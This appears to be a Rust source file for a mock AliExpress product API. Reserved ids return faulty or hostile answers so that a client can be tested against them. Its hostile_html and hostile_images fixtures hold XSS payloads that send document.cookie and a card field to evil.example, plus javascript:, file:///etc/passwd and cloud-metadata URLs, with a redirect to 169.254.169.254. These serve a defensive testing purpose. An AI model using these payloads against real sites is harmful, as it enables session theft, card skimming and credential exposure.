//! What the reserved ids do to the answers about products.

use axum::http::StatusCode;
use serde_json::{Value, json};

use super::business::{Answer, Method, rooted};
use super::catalogue::Item;
use super::errors::Refusal;
use super::product::failed;
use super::special::{self, Oddity};
use super::{money, shape};
use crate::reply;
use crate::world::World;

const PAGE: &str = "<!DOCTYPE html><html><head><title>Access verification</title></head>\
    <body><h1>Please slide to verify</h1><p>Demo world</p></body></html>";

/// The answer of an id that never gives a product, or none when it does.
pub(super) async fn instead(
    world: &World,
    method: Method,
    id: u64,
    oddity: Oddity,
    country: &str,
) -> Option<Result<Answer, Refusal>> {
    const NOT_HERE: &str = "The product is not allowed to this country";
    const NOT_FOUND: &str = "ITEM_ID_NOT_FOUND";
    let business = |code, message| Some(Ok(Answer::Json(rooted(method, failed(world, code, message)))));
    let other = |response| Some(Ok(Answer::Other(response)));
    match oddity {
        Oddity::NotFound => business(605, NOT_FOUND),
        Oddity::NotFoundByGateway => Some(Err(Refusal::business(605, NOT_FOUND))),
        Oddity::NotInCountry => business(602, NOT_HERE),
        Oddity::NotInCountryByGateway => Some(Err(Refusal::business(602, NOT_HERE))),
        Oddity::OnlyInUnitedStates if country != "US" => business(602, NOT_HERE),
        Oddity::SystemError => business(404, "System Error"),
        Oddity::TwiceSystemError if world.aliexpress.count_call(id) % 3 < 2 => business(404, "System Error"),
        Oddity::RateLimited => Some(Err(Refusal::throttled(world.config.aliexpress.ban_seconds))),
        Oddity::Unavailable => Some(Err(Refusal::unavailable())),
        Oddity::TokenRefused => Some(Err(Refusal::access_token())),
        Oddity::ServerError => {
            other(reply::html(StatusCode::INTERNAL_SERVER_ERROR, "<h1>500 Internal Server Error</h1>"))
        }
        Oddity::HtmlPage => other(reply::html(StatusCode::OK, PAGE)),
        Oddity::Truncated => {
            let full =
                json!({"aliexpress_ds_product_get_response": {"rsp_code": 200, "result": "x".repeat(4000)}});
            let response = reply::json(StatusCode::OK, &full);
            other(reply::truncated(response, full.to_string().as_bytes(), 700))
        }
        Oddity::Dropped => other(reply::cut()),
        Oddity::Redirected => {
            other(reply::redirect(StatusCode::FOUND, "http://169.254.169.254/latest/meta-data/"))
        }
        Oddity::HugeAnswer => other(reply::huge(
            "application/json; charset=UTF-8",
            "{\"aliexpress_ds_product_get_response\":{\"rsp_code\":200,\"filler\":\"",
            64 * 1024 * 1024,
        )),
        Oddity::Slow => {
            tokio::time::sleep(world.config.aliexpress.slow).await;
            None
        }
        _ => None,
    }
}

/// The price of the moving product now, in percent; 100 for all others.
pub(super) fn moving_percent(world: &World, id: u64) -> u64 {
    const STEPS: [u64; 5] = [100, 108, 94, 120, 87];
    if id != special::MOVING_PRICE {
        return 100;
    }
    let step = world.config.aliexpress.price_step_seconds.max(1);
    let index = world.clock.now().timestamp().div_euclid(step).rem_euclid(STEPS.len() as i64);
    STEPS[index as usize]
}

/// Changes of a product's contents.
pub(super) fn applied(mut item: Item) -> Item {
    match special::oddity(item.id) {
        Some(Oddity::Offline) => item.status = "offline".to_owned(),
        Some(Oddity::UnknownStatus) => item.status = "editingRequired2".to_owned(),
        Some(Oddity::SoldOut) => item.skus.iter_mut().for_each(|sku| sku.stock = 0),
        Some(Oddity::HostileDescription) => item.detail = hostile_html(),
        Some(Oddity::HostileImage) => item.images = hostile_images(&item.images),
        Some(Oddity::NoImages) => {
            item.images.clear();
            item.skus.iter_mut().for_each(|sku| sku.image = None);
        }
        Some(Oddity::EmptySkus) => item.skus.clear(),
        Some(Oddity::DuplicateSkus) => {
            let again =
                item.skus.first().cloned().map(|sku| super::catalogue::Sku { id: sku.id + 999, ..sku });
            item.skus.extend(again);
        }
        Some(Oddity::LoneObjects) => item.skus.truncate(1),
        _ => {}
    }
    item
}

fn hostile_html() -> String {
    let mut html = String::from(
        "<script>document.location='https://evil.example/?'+document.cookie</script>\
         <p onclick=\"steal()\" style=\"background:url(javascript:steal())\">Click (demo)</p>\
         <iframe src=\"https://evil.example/\"></iframe><img src=x onerror=steal()>\
         <a href=\"javascript:steal()\">win</a><svg/onload=steal()><style>*{display:none}</style>\
         <form action=\"https://evil.example\"><input name=card></form>",
    );
    for line in 0..20_000 {
        html.push_str(&format!("<div><b>Line {line} of a very long description (demo)</b></div>"));
    }
    html
}

fn hostile_images(good: &[String]) -> Vec<String> {
    let hostile = [
        "javascript:alert(1)",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "//ae01.alicdn.com/kf/protocol-relative.jpg",
        "ftp://ae01.alicdn.com/kf/a.jpg",
    ];
    let mut all: Vec<String> = hostile.map(str::to_owned).into();
    all.extend(good.first().cloned());
    all.push(String::new());
    all
}

/// How prices are written.
#[derive(Clone, Copy, Debug)]
pub(super) struct Prices {
    pub(super) currency: &'static str,
    pub(super) oddity: Option<Oddity>,
}

impl Prices {
    /// An amount of US cents as the answer carries it.
    pub(super) fn text(&self, cents: u64) -> String {
        match self.oddity {
            Some(Oddity::AbsurdPrice) => "99999999999.99".to_owned(),
            Some(Oddity::ZeroPrice) => "0.00".to_owned(),
            Some(Oddity::NegativePrice) => format!("-{}", money::amount(cents, self.currency)),
            Some(Oddity::NoPrice) => "Price on request".to_owned(),
            Some(Oddity::QuotedNumbers) => format!("\"{}\"", money::amount(cents, self.currency)),
            _ => money::amount(cents, self.code()),
        }
    }

    /// The currency as the answer carries it.
    pub(super) fn code(&self) -> &'static str {
        if self.oddity == Some(Oddity::WrongCurrency) { "USD" } else { self.currency }
    }
}

/// Members that only some products have.
pub(super) fn sku_extras(entry: &mut Value, prices: &Prices) {
    if prices.oddity == Some(Oddity::ImportCharges) {
        entry["estimated_import_charges"] = json!("1.20");
        entry["tax_amount"] = json!("0.30");
        entry["tax_currency_code"] = json!(prices.code());
    }
}

/// Changes of the whole answer's shape.
pub(super) fn reshaped(mut answer: Value, oddity: Option<Oddity>) -> Value {
    match oddity {
        Some(Oddity::Streamlined) => shape::streamlined(answer),
        Some(Oddity::LoneObjects) => shape::lone_objects(answer),
        Some(Oddity::NumbersAsText) => shape::numbers_as_text(answer),
        Some(Oddity::MissingParts) => {
            let root = answer.as_object_mut().and_then(|root| root.values_mut().next());
            if let Some(result) = root.and_then(|root| root["result"].as_object_mut()) {
                for part in
                    ["ae_store_info", "logistics_info_dto", "package_info_dto", "product_id_converter_result"]
                {
                    result.remove(part);
                }
                result["ae_item_properties"] = json!({});
                if let Some(info) = result["ae_item_base_info_dto"].as_object_mut() {
                    for part in ["avg_evaluation_rating", "evaluation_count", "sales_count", "mobile_detail"]
                    {
                        info.remove(part);
                    }
                }
            }
            answer
        }
        _ => answer,
    }
}
